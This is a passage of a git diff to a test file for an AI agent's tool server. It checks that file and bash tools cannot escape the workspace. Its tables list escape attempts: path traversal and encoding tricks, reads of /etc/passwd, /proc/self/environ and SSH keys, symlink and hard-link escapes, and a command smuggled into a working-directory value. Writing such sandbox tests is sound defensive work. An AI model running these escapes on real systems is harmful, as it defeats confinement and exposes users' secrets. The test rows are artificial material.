@@ -1,1281 +1,1133 @@
-// Attempts to get out of the folder. It is longer than 400 lines because each way out has a table of attempts, and all
-// of them share one tool server and what is checked after each.
-import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
-import { createSocket, type Socket as UdpSocket } from 'node:dgram';
-import { once } from 'node:events';
-import {
-  existsSync,
-  lstatSync,
-  mkdirSync,
-  mkdtempSync,
-  readdirSync,
-  readFileSync,
-  readlinkSync,
-  realpathSync,
-  rmSync,
-  symlinkSync,
-  writeFileSync,
-} from 'node:fs';
-import { type AddressInfo, connect, createServer, type Server } from 'node:net';
-import { tmpdir } from 'node:os';
-import { delimiter, join } from 'node:path';
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
+// More than 400 lines: all attempts to get out of the folder are in one place, most of them as rows of tables.
+import { spawn } from 'node:child_process';
+import { existsSync, linkSync, readdirSync, readFileSync, readlinkSync, writeFileSync } from 'node:fs';
+import { userInfo } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, afterEach, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
 import { ROOT } from '#scripts/lib/run.ts';
-import { SECRET as MODEL_KEY } from '../lib/bench.ts';
-import { CliBench } from '../lib/cli-bench.ts';
-import { ToolClient } from '../lib/tool-client.ts';
+import {
+  type Answer,
+  CONFIG,
+  EscapeBench,
+  isInstalled,
+  isRunningWith,
+  missingForConfinement,
+} from '../lib/escape-bench.ts';
 
-/** What no answer may contain. */
-const SECRETS = {
-  outside: 'outside-secret-4711',
-  home: 'home-secret-1234',
-  key: 'key-secret-0815',
-  session: 'session-secret-9876',
-  victim: 'victim-secret-5555',
-  model: MODEL_KEY,
-};
+const missing = missingForConfinement();
+const isSkipped = missing !== undefined && process.env.CI === undefined;
+const because = isSkipped ? ` (skipped: ${missing})` : '';
+/** What only Python can try. Continuous integration has it. */
+const testWithPython = test.skipIf(!isInstalled('python3') && process.env.CI === undefined);
 
-/** What only commands may read. */
-const CANARY = 'canary-of-the-configuration';
+let world: EscapeBench;
 
-const CONFIG = `# ${CANARY}\npermissions:\n  write: allow\n  execute: allow\n`;
+/** What programs say when the confinement stops them. */
+const REFUSED =
+  /Read-only file system|No such file|No such device|Operation not permitted|Permission denied|Device or resource busy|Invalid cross-device link|Function not implemented|Bad system call|exit code 159/i;
 
-/** Where the home of the server is made. */
-const CACHE = join(ROOT, 'node_modules/.cache');
+/** What programs say when there is no network. */
+const NO_NETWORK =
+  /ECONNREFUSED|ENETUNREACH|EPERM|EAI_AGAIN|ENOTFOUND|ENOENT|Connection refused|Network is unreachable|Operation not permitted|name resolution|not known|No such file/;
 
-/** How long a race runs, in milliseconds. */
-const RACE_MS = 2_000;
+const OUT_OF_ROOT = /leads above the workspace root/;
+const NOT_THERE = /^(Error: )?ENOENT: no such file or directory/;
+const PROTECTED = /^EACCES: tools may not change this path/;
 
-/** What is not to be reached. */
-interface Outside {
-  /** A folder next to the one that is worked on. */
-  folder: string;
-  /** A file in it, with a secret. */
-  secret: string;
-  home: string;
-  tcpPort: number;
-  udpPort: number;
-  unixSocket: string;
-  abstractSocket: string;
-  serverPid: number;
-  /** A process of the same user that the test has started. */
-  victimPid: number;
-}
+/** A word for bash. */
+const quoted = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
 
-interface Answer {
-  content: string;
-  /** Whether it says that it did not work. */
-  hasFailed: boolean;
-}
-
-let bench: CliBench;
-let client: ToolClient;
-let outside: Outside;
-let victim: ChildProcess;
-let udp: UdpSocket;
-const servers: Server[] = [];
-/** How many connections, or packets, have arrived. */
-let arrivals = 0;
-/** Whether commands are confined on this machine. */
-let isConfined = false;
-let before: Map<string, string>;
-
-beforeAll(async () => {
-  bench = await CliBench.start();
-  const folder = join(bench.outside, 'others');
-  mkdirSync(join(folder, 'below'), { recursive: true });
-  const secret = join(folder, 'secret.txt');
-  for (const place of [secret, join(folder, 'below/secret.txt'), join(bench.outside, 'secret.txt')])
-    writeFileSync(place, `${SECRETS.outside}\n`);
-  // Not in a folder for temporary files, which is hidden anyway.
-  mkdirSync(CACHE, { recursive: true });
-  const home = realpathSync(mkdtempSync(join(CACHE, 'escapes-home-')));
-  // The places that the confinement's runtime would open by default.
-  for (const name of ['.ssh', '.npm/_logs', '.claude/debug']) mkdirSync(join(home, name), { recursive: true });
-  for (const name of ['private.txt', '.ssh/id', '.npm/_logs/log', '.claude/debug/log'])
-    writeFileSync(join(home, name), `${SECRETS.home}\n`);
-  const unixSocket = join(bench.outside, 'socket');
-  const abstractSocket = `escapes-${process.pid}`;
-  const tcpPort = ((await listen({ port: 0, host: '127.0.0.1' })) as AddressInfo).port;
-  await listen({ path: unixSocket });
-  if (process.platform === 'linux') await listen({ path: `\0${abstractSocket}` });
-  udp = createSocket('udp4').on('message', () => arrivals++);
-  udp.bind(0, '127.0.0.1');
-  await once(udp, 'listening');
-  victim = spawn('sleep', ['600'], { env: { ...process.env, VICTIM: SECRETS.victim }, stdio: 'ignore' });
-
-  bench.write({
-    '.roundtrip/config.yaml': CONFIG,
-    '.roundtrip/sessions/other.jsonl': `${JSON.stringify({ role: 'user', content: SECRETS.session })}\n`,
-    'plain.txt': 'plain\n',
-    'src/a.ts': 'export const a = 1;\n',
-  });
-  const git = spawnSync('git', ['init', '--quiet', '--template=', bench.folder]);
-  if (git.status !== 0) throw new Error(`git: ${git.error?.message ?? git.stderr.toString()}`);
-  bench.write({ '.git/hooks/post-merge': '#!/bin/sh\n' });
-  client = new ToolClient(bench.open(['serve', '--stdio'], { HOME: home, FAKE_API_KEY: SECRETS.key }));
-  outside = {
-    ...{ folder, secret, home, tcpPort, unixSocket, abstractSocket },
-    ...{ udpPort: udp.address().port, serverPid: client.child.pid ?? -1, victimPid: victim.pid ?? -1 },
-  };
-  // What is attempted below would do harm if it worked, so it must be certain that other processes are out of reach.
-  const { content } = await attempt('bash', {
-    command: `python3 -c "print(6 * 7)"; test -e /proc/${outside.serverPid} || echo confined`,
-  });
-  isConfined = content === '42\nconfined';
-  before = state();
-});
-afterAll(async () => {
-  victim?.kill('SIGKILL');
-  client?.child.kill('SIGKILL');
-  udp?.close();
-  for (const server of servers) server.close();
-  if (outside !== undefined) rmSync(outside.home, { recursive: true, force: true });
-  await bench?.stop();
-});
-afterEach(() => {
-  const [earlier, count] = [before, arrivals];
-  // What one attempt has done is not counted for the next one.
-  [before, arrivals] = [state(), 0];
-  expect(before).toEqual(earlier);
-  expect(count).toBe(0);
-});
-
-/** Listens for connections that are counted. */
-async function listen(where: object): Promise<unknown> {
-  const server = createServer((socket) => {
-    arrivals++;
-    socket.on('error', () => undefined).end(SECRETS.outside);
-  });
-  servers.push(server);
-  server.listen(where);
-  await once(server, 'listening');
-  return server.address();
-}
-
-/** Everything outside of the folder, and what git runs, and what belongs to the program. */
-function state(): Map<string, string> {
-  const found = new Map<string, string>();
-  const visit = (path: string) => {
-    if (path === bench.folder) return;
-    const entry = lstatSync(path, { throwIfNoEntry: false });
-    if (entry === undefined) return;
-    const mode = entry.mode.toString(8);
-    if (entry.isDirectory()) {
-      found.set(path, mode);
-      for (const name of readdirSync(path)) visit(join(path, name));
-    } else if (entry.isSymbolicLink()) found.set(path, readlinkSync(path));
-    else found.set(path, entry.isFile() ? `${mode} ${readFileSync(path, 'utf8')}` : mode);
-  };
-  for (const path of [bench.outside, outside.home]) visit(path);
-  for (const path of ['.git/config', '.git/hooks', '.git/commondir', '.git/config.worktree', '.roundtrip/config.yaml'])
-    visit(join(bench.folder, path));
-  visit(join(bench.folder, '.roundtrip/sessions'));
-  return found;
-}
-
-let calls = 0;
-
-/** Calls a tool. Whatever it answers, neither a secret nor a path of the machine may be in it. */
-async function attempt(name: string, input: object, server = client): Promise<Answer> {
-  const message = await server.call(++calls, name, input);
-  const text = JSON.stringify(message);
-  for (const secret of Object.values(SECRETS)) expect(text, `${name} ${JSON.stringify(input)}`).not.toContain(secret);
-  expect(text).not.toContain(bench.folder);
-  const { content = '', is_error: isError = true } = message.result ?? {};
-  return { content, hasFailed: isError || /\[exit code [1-9]\d*\]$/.test(content) };
-}
-
-/** Calls a tool whose answer must say that it did not work. */
-async function refused(name: string, input: object, server = client): Promise<string> {
-  const { content, hasFailed } = await attempt(name, input, server);
-  expect(hasFailed, `${name} ${JSON.stringify(input).slice(0, 500)} answered: ${content}`).toBe(true);
-  expect(content.trim()).not.toBe('');
-  return content;
-}
-
-/** A word for bash that means exactly this text. */
-const quoted = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;
+/** Runs code with the program's own Node, as a command. */
+const node = (code: string): string => `${quoted(process.execPath)} -e ${quoted(code)}`;
 
 const python = (code: string): string => `python3 -c ${quoted(code)}`;
 
-/** Skips what needs confinement where there is none; where everything must be tested, that is a failure. */
-function needsConfinement(): void {
-  beforeEach(({ skip }) => {
-    skip(!isConfined && !process.env.CI, 'commands cannot be confined here, or there is no python3');
-    expect(isConfined, 'commands are confined, and there is a python3').toBe(true);
-  });
-}
+/** Python that makes a system call by its number, and prints the result and the error. */
+const SYSTEM_CALL = `
+import ctypes, os, platform
+libc = ctypes.CDLL(None, use_errno=True)
+def call(x64, arm64, *given):
+    ctypes.set_errno(0)
+    result = libc.syscall(x64 if platform.machine() == "x86_64" else arm64, *given)
+    print(result, os.strerror(ctypes.get_errno()))
+    return result
+`;
 
-const isLinux = process.platform === 'linux';
-
-/** Tools that read a path, and what they are given besides. */
-const READING: [string, (path: string) => object][] = [
-  ['read_file', (path) => ({ path })],
-  ['list_directory', (path) => ({ path, recursive: true })],
-  ['search_text', (path) => ({ path, pattern: 'secret' })],
-  ['search_files', (path) => ({ path, pattern: '**' })],
-  ['count_lines', (path) => ({ path })],
-  ['copy_path', (path) => ({ from: path, to: '/copied' })],
-  ['browser_js_eval', (path) => ({ code: `await vfs.readFile(${JSON.stringify(path)})` })],
-];
-
-/** Tools that write a file. */
-const WRITING: [string, (path: string) => object][] = [
-  ['write_file', (path) => ({ path, content: 'written' })],
-  ['edit_file', (path) => ({ path, find: 'secret', replace: 'written' })],
-  ['multi_edit', (path) => ({ path, edits: [{ find: 'secret', replace: 'written' }] })],
-  ['apply_patch', (path) => ({ patch: `--- a${path}\n+++ b${path}\n@@ -1 +1 @@\n-${SECRETS.outside}\n+written\n` })],
-  ['copy_path', (path) => ({ from: '/plain.txt', to: path })],
-  ['move_path', (path) => ({ from: '/src/a.ts', to: path })],
-  ['browser_js_eval', (path) => ({ code: `await vfs.writeFile(${JSON.stringify(path)}, "written")` })],
-];
-
-describe('what the attempts rely on', () => {
-  test('what is outside is there, so that it could be reached', async () => {
-    expect(readFileSync(outside.secret, 'utf8')).toContain(SECRETS.outside);
-    expect(lstatSync(join(outside.home, 'private.txt')).isFile()).toBe(true);
-    for (const where of [{ port: outside.tcpPort, host: '127.0.0.1' }, { path: outside.unixSocket }]) {
-      arrivals = 0;
-      const socket = connect(where).resume();
-      await once(socket, 'close');
-      expect(arrivals).toBe(1);
-    }
-    arrivals = 0;
-    expect(victim.exitCode).toBeNull();
+describe.skipIf(isSkipped)(`a way out of the folder${because}`, () => {
+  test('can only be tried if programs can be confined here', () => {
+    expect(missing).toBeUndefined();
   });
 
-  test.skipIf(!isLinux)('the server has the keys', () => {
-    const environment = readFileSync(`/proc/${outside.serverPid}/environ`, 'utf8');
-    expect(environment).toContain(SECRETS.key);
-    expect(environment).toContain(SECRETS.model);
+  beforeAll(async () => {
+    world = await EscapeBench.start();
+  });
+  afterEach(() => world.expectUntouched());
+  afterAll(() => world.stop());
+
+  describe('by a path', () => {
+    test.each<[string, string, () => object, RegExp]>([
+      ['two dots', 'read_file', () => ({ path: '../outside/secret.txt' }), OUT_OF_ROOT],
+      ['two dots from the root', 'read_file', () => ({ path: '/../outside/secret.txt' }), OUT_OF_ROOT],
+      ['two dots below a file', 'read_file', () => ({ path: '/a.txt/../../outside/secret.txt' }), OUT_OF_ROOT],
+      ['many dots', 'read_file', () => ({ path: `${'../'.repeat(500)}etc/passwd` }), OUT_OF_ROOT],
+      ['dots and slashes', 'read_file', () => ({ path: '/./..//./outside/secret.txt' }), OUT_OF_ROOT],
+      ['a path of the machine', 'read_file', () => ({ path: join(world.outside, 'secret.txt') }), NOT_THERE],
+      ['a path of the machine in the folder', 'read_file', () => ({ path: join(world.folder, 'a.txt') }), NOT_THERE],
+      ['a system file', 'read_file', () => ({ path: '/etc/passwd' }), NOT_THERE],
+      ['a process’s files', 'read_file', () => ({ path: '/proc/self/environ' }), NOT_THERE],
+      ['home', 'read_file', () => ({ path: '~/.ssh/id_test' }), NOT_THERE],
+      ['an address', 'read_file', () => ({ path: 'file:///etc/passwd' }), NOT_THERE],
+      ['a NUL', 'read_file', () => ({ path: 'a.txt\0../../outside/secret.txt' }), /contains a NUL/],
+      ['a NUL in a new name', 'write_file', () => ({ path: 'a.txt\0.md', content: 'x' }), /contains a NUL/],
+      ['dots of another width', 'read_file', () => ({ path: '．．/outside/secret.txt' }), NOT_THERE],
+      ['leaders in place of dots', 'read_file', () => ({ path: '\u2024\u2024/outside/secret.txt' }), NOT_THERE],
+      ['slashes of another kind', 'read_file', () => ({ path: '..\u2215outside\uFF0Fsecret.txt' }), NOT_THERE],
+      ['backslashes', 'read_file', () => ({ path: '..\\outside\\secret.txt' }), NOT_THERE],
+      ['encoded slashes', 'read_file', () => ({ path: '..%2foutside%2fsecret.txt' }), NOT_THERE],
+      ['bytes that are too long', 'read_file', () => ({ path: '%c0%ae%c0%ae/outside/secret.txt' }), NOT_THERE],
+      ['half of a character', 'read_file', () => ({ path: '\ud800/../../outside/secret.txt' }), OUT_OF_ROOT],
+      ['dots with spaces', 'read_file', () => ({ path: '.. /outside/secret.txt' }), NOT_THERE],
+      ['trailing dots', 'read_file', () => ({ path: '.roundtrip./config.yaml' }), NOT_THERE],
+      ['a stream of a file', 'read_file', () => ({ path: '.roundtrip/config.yaml::$DATA' }), NOT_THERE],
+      ['a long name', 'read_file', () => ({ path: 'x'.repeat(300) }), /^ENAMETOOLONG/],
+      [
+        'a long path',
+        'write_file',
+        () => ({ path: `/${'d/'.repeat(5_000)}x`, content: '' }),
+        /^ENAMETOOLONG: path is too long/,
+      ],
+      ['listing', 'list_directory', () => ({ path: '../outside' }), OUT_OF_ROOT],
+      ['writing', 'write_file', () => ({ path: '../outside/new.txt', content: 'x' }), OUT_OF_ROOT],
+      ['editing', 'edit_file', () => ({ path: '../outside/f.txt', find: 'C', replace: 'x' }), OUT_OF_ROOT],
+      ['making a directory', 'make_directory', () => ({ path: '../outside/new' }), OUT_OF_ROOT],
+      ['moving out', 'move_path', () => ({ from: '/a.txt', to: '../outside/a.txt' }), OUT_OF_ROOT],
+      ['moving in', 'move_path', () => ({ from: '../outside/f.txt', to: '/in.txt' }), OUT_OF_ROOT],
+      ['copying in', 'copy_path', () => ({ from: '../outside/f.txt', to: '/in.txt' }), OUT_OF_ROOT],
+      ['deleting', 'delete_path', () => ({ path: '../outside', recursive: true }), OUT_OF_ROOT],
+      ['searching', 'search_text', () => ({ pattern: 'CANARY', path: '../outside' }), OUT_OF_ROOT],
+      ['finding', 'search_files', () => ({ pattern: '**/secret.txt', path: '/..' }), OUT_OF_ROOT],
+      ['a pattern', 'search_files', () => ({ pattern: '../**/secret.txt' }), /^\[No file|leads above/],
+      ['checking', 'get_diagnostics', () => ({ path: '../outside/secret.ts' }), OUT_OF_ROOT],
+      ['a command’s directory', 'bash', () => ({ command: 'cat secret.txt', cwd: '../outside' }), OUT_OF_ROOT],
+      [
+        'a patch',
+        'apply_patch',
+        () => ({ patch: '--- /dev/null\n+++ ../outside/new.txt\n@@ -0,0 +1 @@\n+x\n' }),
+        OUT_OF_ROOT,
+      ],
+    ])('%s', async (_, tool, input, says) => {
+      const { text, isError } = await world.call(tool, input() as Record<string, unknown>);
+      expect(text).toMatch(says);
+      expect(isError || text.startsWith('[No file')).toBe(true);
+    });
   });
 
-  describe('confinement', () => {
-    needsConfinement();
-    test('commands run, and write in the folder', async () => {
-      expect(await attempt('bash', { command: 'echo made > made.txt; cat made.txt' })).toMatchObject({
-        content: 'made',
-        hasFailed: false,
-      });
-      expect(bench.read('made.txt')).toBe('made\n');
+  describe('to what belongs to the program', () => {
+    test.each<[string, string, object, RegExp]>([
+      ['reading the settings', 'read_file', { path: '/.roundtrip/config.yaml' }, NOT_THERE],
+      ['reading them in capitals', 'read_file', { path: '/.ROUNDTRIP/Config.yaml' }, NOT_THERE],
+      ['reading a conversation', 'read_file', { path: '/.roundtrip/sessions/2026-01-01-old.jsonl' }, NOT_THERE],
+      ['listing the conversations', 'list_directory', { path: '/.roundtrip/sessions' }, NOT_THERE],
+      ['searching', 'search_text', { pattern: 'CANARY' }, /^\[No matches/],
+      ['finding', 'search_files', { pattern: '**/*.jsonl' }, /^\[No file/],
+      ['writing the settings', 'write_file', { path: '/.roundtrip/config.yaml', content: 'x' }, PROTECTED],
+      ['writing them in capitals', 'write_file', { path: '/.RoundTrip/config.yaml', content: 'x' }, PROTECTED],
+      ['moving it', 'move_path', { from: '/.roundtrip', to: '/moved' }, /^E/],
+      ['moving over it', 'move_path', { from: '/packages', to: '/.roundtrip' }, /^E/],
+      ['deleting it', 'delete_path', { path: '/.roundtrip', recursive: true }, /^E/],
+      ['cat', 'bash', { command: 'cat .roundtrip/sessions/* .roundtrip/journal/*' }, REFUSED],
+      ['grep', 'bash', { command: 'grep -r CANARY . | cut -c1-80' }, /no output|denied/],
+      ['find', 'bash', { command: 'find . -name "*.jsonl" | xargs cat' }, /no output/],
+      ['mv', 'bash', { command: 'mv .roundtrip moved' }, REFUSED],
+      ['ln', 'bash', { command: 'ln .roundtrip/config.yaml hard.yaml' }, REFUSED],
+      ['tar', 'bash', { command: 'tar -cf - .roundtrip 2>/dev/null | grep -c CANARY' }, /^0/],
+      ['umount', 'bash', { command: 'umount .roundtrip/sessions && cat .roundtrip/sessions/*' }, /umount/],
+      ['a script', 'bash', { command: 'echo "permissions: {x: allow}" > .roundtrip/config.yaml' }, REFUSED],
+      ['new settings', 'bash', { command: 'rm -f .roundtrip/config.yaml; mkdir .roundtrip/x' }, REFUSED],
+      ['code', 'browser_js_eval', { code: 'await vfs.readFile("/.roundtrip/config.yaml")' }, NOT_THERE],
+    ])('%s', async (_, tool, input, says) => {
+      expect((await world.call(tool, input as Record<string, unknown>)).text).toMatch(says);
+      expect(world.bench.read('.roundtrip/config.yaml')).toBe(CONFIG);
+      expect(readdirSync(world.folder)).not.toContain('moved');
     });
 
-    test('code runs', async () => {
-      expect((await attempt('browser_js_eval', { code: '6 * 7' })).content).toMatch(/^42\b/);
-    });
-  });
-});
-
-const PATHS: [string, string | (() => string)][] = [
-  ['the folder above', '..'],
-  ['the folder above, from the root', '/..'],
-  ['a file above', '../others/secret.txt'],
-  ['a file above, from the root', '/../others/secret.txt'],
-  ['through a folder', '/src/../../others/secret.txt'],
-  ['through a folder that is not there', '/none/../../others/secret.txt'],
-  ['with dots and slashes', '/.//./..//others/./secret.txt'],
-  ['many folders up', `${'/..'.repeat(40)}/etc/passwd`],
-  ['an absolute path of the machine', () => outside.secret],
-  ['a file of the system', '/etc/passwd'],
-  ['an address of a file', 'file:///etc/passwd'],
-  ['the environment of the server', '/proc/self/environ'],
-  ['the folder of the server', '/proc/self/cwd/../others/secret.txt'],
-  ['the root of the server', '/proc/self/root/etc/passwd'],
-  ['a NUL at the end', '/../others/secret.txt\0'],
-  ['a NUL in the middle', '/plain.txt\0/../../others/secret.txt'],
-  ['a NUL and another ending', '../others/secret.txt\0.md'],
-  ['dots as percent encoding', '/%2e%2e/others/secret.txt'],
-  ['slashes as percent encoding', '/..%2fothers%2fsecret.txt'],
-  ['percent encoding twice', '/%252e%252e%252fothers%252fsecret.txt'],
-  ['overlong encoding', '/..%c0%afothers%c0%afsecret.txt'],
-  ['backslashes', '..\\others\\secret.txt'],
-  ['backslashes and slashes', '/src\\..\\../..\\others/secret.txt'],
-  ['a drive', 'C:\\Windows\\win.ini'],
-  ['dots and slashes that look alike', '/\uff0e\uff0e\u2215others\u2215secret.txt'],
-  ['home', '~/private.txt'],
-  ['a variable', '$HOME/private.txt'],
-  ['substitution', '$(cat /etc/passwd)'],
-];
-
-describe('paths', () => {
-  test.each(PATHS)('%s: nothing is read', async (_, given) => {
-    const path = typeof given === 'string' ? given : given();
-    for (const [name, input] of READING) {
-      const { content, hasFailed } = await attempt(name, input(path));
-      // A path that is not there is not an error for all of them.
-      if (!hasFailed) expect(content, name).toMatch(/^(No |0 |There are no )/);
-    }
-    await refused('read_file', { path });
-    expect(bench.read('copied')).toBeUndefined();
+    // For a command, the settings are read-only, not hidden: git would take a file that is hidden for one that is deleted.
   });
 
-  test.each(PATHS)('%s: nothing is written outside', async (_, given) => {
-    // Should it work, nothing of the machine may be lost.
-    const path = (typeof given === 'string' ? given : given()).replace('passwd', 'escaped');
-    for (const name of ['write_file', 'make_directory', 'delete_path']) {
-      const { hasFailed } = await attempt(name, { path, content: 'written', recursive: true });
-      // What looks strange can still be a name. Then it is one in the folder.
-      if (!hasFailed && name === 'write_file') expect((await attempt('read_file', { path })).content).toBe('written');
-    }
-    expect(existsSync('/etc/escaped')).toBe(false);
-  });
-
-  test.each([
-    ['a name of 300 characters', `/${'n'.repeat(300)}`],
-    ['a name of a million characters', `/${'n'.repeat(1_000_000)}`],
-    ['3,000 folders', `${'/d'.repeat(3_000)}/f`],
-    ['20,000 folders up', `${'/..'.repeat(20_000)}/etc/passwd`],
-  ])('%s: refused, and the server goes on', async (_, path) => {
-    await refused('read_file', { path });
-    await refused('write_file', { path, content: 'written' });
-    expect((await attempt('read_file', { path: '/plain.txt' })).content).toBe('plain\n');
-  });
-
-  test.each(['..', '/../others', '/proc/self/cwd/..', '/none', '/plain.txt', "/'; cat ../others/secret.txt; '"])(
-    'a command in %s does not run',
-    async (cwd) => {
-      await refused('bash', { command: 'touch ran.txt; cat secret.txt', cwd });
-      expect(bench.read('ran.txt')).toBeUndefined();
-    },
-  );
-
-  test('a command in an absolute path of the machine does not run', async () => {
-    await refused('bash', { command: 'cat secret.txt', cwd: outside.folder });
-  });
-});
-
-/** Stands for the absolute path of a secret. */
-const OUTSIDE = 'outside';
-
-/** Symlinks of the folder, and what is reached through each. */
-const LINKS: [string, string, () => string, string][] = [
-  ['to a file', 'file-link', () => outside.secret, ''],
-  ['to a file, relative', 'relative-link', () => '../others/secret.txt', ''],
-  ['to a folder', 'folder-link', () => outside.folder, '/secret.txt'],
-  ['to a folder, relative', 'src/up-link', () => '../../others', '/below/secret.txt'],
-  ['to the root of the machine', 'root-link', () => '/', OUTSIDE],
-  ['to the folder above the folder', 'above-link', () => '..', '/secret.txt'],
-  ['to another one', 'chain-link', () => 'chain-2', ''],
-  ['to another one of a folder', 'chain-folder', () => 'folder-link/below', '/secret.txt'],
-  ['to nothing', 'dangling-link', () => join(outside.folder, 'new.txt'), ''],
-  ['to nothing in a folder', 'dangling-folder', () => join(outside.folder, 'new'), '/new.txt'],
-  ['through the folder of the server', 'proc-link', () => '/proc/self/cwd/../others', '/secret.txt'],
-];
-
-describe('symlinks', () => {
-  beforeEach(() => {
-    bench.write({ 'src/a.ts': 'export const a = 1;\n' });
-    for (const [name, target] of [['chain-2', () => 'file-link'] as const, ...LINKS.map(([, ...link]) => link)]) {
-      rmSync(join(bench.folder, name), { force: true });
-      symlinkSync(target(), join(bench.folder, name));
-    }
-  });
-
-  describe.each(LINKS)('%s', (_, name, __, below) => {
-    const there = () => `/${name}${below === OUTSIDE ? outside.secret : below}`;
-
-    test.each(READING)('%s reads nothing', async (tool, input) => {
-      for (const at of new Set([there(), `/${name}`])) {
-        const { content, hasFailed } = await attempt(tool, input(at));
-        if (!hasFailed && tool !== 'copy_path') expect(content, at).toMatch(/^(No |0 |There are no )/);
+  describe('by a symlink that a command has made', () => {
+    let count = 0;
+    test.each<[string, (link: string) => string, string]>([
+      ['to a file, relative', (link) => `ln -s ../outside/secret.txt ${link}`, ''],
+      ['to a file, absolute', (link) => `ln -s ${world.outside}/secret.txt ${link}`, ''],
+      ['to a directory', (link) => `ln -s ../outside ${link}`, '/secret.txt'],
+      ['to a directory, absolute', (link) => `ln -s ${world.outside} ${link}`, '/secret.txt'],
+      ['to the parent', (link) => `ln -s .. ${link}`, '/outside/secret.txt'],
+      ['to the machine’s root', (link) => `ln -s / ${link}`, '/etc/passwd'],
+      ['to home', (link) => `ln -s ~/.ssh ${link}`, '/id_test'],
+      ['to a process’s root', (link) => `ln -s /proc/self/root ${link}`, '/etc/passwd'],
+      ['to a process’s open files', (link) => `ln -s /proc/self/fd ${link}`, '/0'],
+      [
+        'in a chain',
+        (link) => `ln -s ${link}.2 ${link}; ln -s ${link}.3 ${link}.2; ln -s ../outside ${link}.3`,
+        '/secret.txt',
+      ],
+      [
+        'through a directory',
+        (link) => `mkdir ${link}.d; ln -s ../../outside ${link}.d/up; ln -s ${link}.d/up ${link}`,
+        '/f.txt',
+      ],
+      ['to nothing yet', (link) => `ln -s ../outside/new.txt ${link}`, ''],
+      ['in a circle', (link) => `ln -s ${link} ${link}`, ''],
+      ['to the program’s settings', (link) => `ln -s .roundtrip/config.yaml ${link}`, ''],
+    ])('%s: nothing is read, written, listed or searched through it', async (_, make, below) => {
+      const link = `link-${++count}`;
+      expect((await world.bash(make(link))).text).toBe('[no output, exit code 0]');
+      const path = `/${link}${below}`;
+      for (const [tool, input] of [
+        ['read_file', { path }],
+        ['write_file', { path, content: 'changed' }],
+        ['edit_file', { path, find: 'CANARY', replace: 'changed' }],
+        ['list_directory', { path }],
+        ['count_lines', { path }],
+        ['search_text', { pattern: 'CANARY|root', path }],
+        ['move_path', { from: path, to: '/in.txt' }],
+      ] as const) {
+        // A link itself may be moved and deleted.
+        if (tool === 'move_path' && below === '') continue;
+        // The error may name the target of the link.
+        const { text, isError } = await world.call(tool, input, world.bench.outside);
+        expect(isError, `${tool}: ${text}`).toBe(true);
+        expect(text, tool).toMatch(/leads above|^ENOENT|^ELOOP|^EACCES/);
       }
-      // A link may be copied as a link.
-      const copy = lstatSync(join(bench.folder, 'copied'), { throwIfNoEntry: false });
-      expect(copy === undefined || copy.isSymbolicLink()).toBe(true);
-      rmSync(join(bench.folder, 'copied'), { force: true });
+      if (below === '') expect((await world.call('delete_path', { path: `/${link}` })).isError).toBe(false);
     });
 
-    test.each(WRITING)('%s writes nothing', async (tool, input) => {
-      const content = await attempt(tool, input(there()));
-      // Some replace the link itself, which is in the folder.
-      const isReplaced = lstatSync(join(bench.folder, name)).isFile();
-      expect(content.hasFailed, content.content).toBe(!isReplaced);
-      if (tool !== 'move_path' || !isReplaced) expect(bench.read('src/a.ts')).toBe('export const a = 1;\n');
-    });
-
-    test('folders are neither made nor deleted below it', async () => {
-      await refused('make_directory', { path: `/${name}/made` });
-      await refused('delete_path', { path: below === '' ? `/${name}/x` : there(), recursive: true });
-      await refused('move_path', { from: below === '' ? `/${name}/x` : there(), to: '/taken' });
-      expect(existsSync(join(bench.folder, 'taken'))).toBe(false);
+    test('a copy of one is a link that leads nowhere either', async () => {
+      await world.bash('ln -s ../outside/secret.txt copied-from');
+      await world.call('copy_path', { from: '/copied-from', to: '/copied-to' });
+      expect((await world.call('read_file', { path: '/copied-to' })).text).toMatch(OUT_OF_ROOT);
+      expect((await world.bash('cat copied-to')).text).toMatch(REFUSED);
     });
   });
 
-  test('searching everything does not follow them', async () => {
-    for (const [tool, input] of READING.filter(([tool]) => /search|list|count/.test(tool)))
-      expect((await attempt(tool, input('/'))).content).not.toContain('below/');
-    await attempt('get_diagnostics', { path: '/' });
-    await attempt('get_diagnostics', { path: '/folder-link' });
-  });
-
-  test('deleting one deletes what is in the folder only', async () => {
-    symlinkSync(outside.folder, join(bench.folder, 'doomed-link'));
-    await attempt('delete_path', { path: '/doomed-link', recursive: true });
-    mkdirSync(join(bench.folder, 'doomed'));
-    symlinkSync(outside.folder, join(bench.folder, 'doomed/link'));
-    expect((await attempt('delete_path', { path: '/doomed', recursive: true })).hasFailed).toBe(false);
-    expect(bench.read('doomed')).toBeUndefined();
-  });
-
-  describe('made by a command', () => {
-    needsConfinement();
-
-    test.each(WRITING)('%s does not write through them', async (tool, input) => {
-      const name = `bash-${tool}`;
-      await attempt('bash', { command: `ln -s ../others ${name} && ln -s ../others/secret.txt ${name}-file` });
-      expect(readlinkSync(join(bench.folder, name))).toBe('../others');
-      await refused(tool, input(`/${name}/secret.txt`));
-      await attempt(tool, input(`/${name}-file`));
+  describe('by a hard link', () => {
+    test.each<[string, () => string]>([
+      ['to a file of the program', () => join(ROOT, 'package.json')],
+      ['to a system file', () => '/etc/passwd'],
+      ['to a file next to the folder', () => join(world.outside, 'secret.txt')],
+      ['to a file of home', () => join(world.home, '.ssh/id_test')],
+      ['to git’s settings', () => '.git/config'],
+    ])('%s: a command cannot make one', async (_, target) => {
+      expect((await world.bash(`ln ${target()} hard-link`)).text).toMatch(REFUSED);
+      expect(existsSync(join(world.folder, 'hard-link'))).toBe(false);
     });
 
-    test('in place of a file that was read before', async () => {
-      bench.write({ 'exchanged.txt': 'secret\n', 'exchanged/secret.txt': 'secret\n' });
-      for (const path of ['/exchanged.txt', '/exchanged/secret.txt']) await attempt('read_file', { path });
-      await attempt('bash', {
-        command: 'rm -r exchanged.txt exchanged; ln -s ../others/secret.txt exchanged.txt; ln -s ../others exchanged',
+    test('that was there already: writing replaces it, and leaves the other file', async () => {
+      const outer = join(world.bench.outside, 'linked.txt');
+      writeFileSync(outer, 'theirs');
+      linkSync(outer, join(world.folder, 'was-linked.txt'));
+      await world.call('read_file', { path: '/was-linked.txt' });
+      expect((await world.call('write_file', { path: '/was-linked.txt', content: 'ours' })).isError).toBe(false);
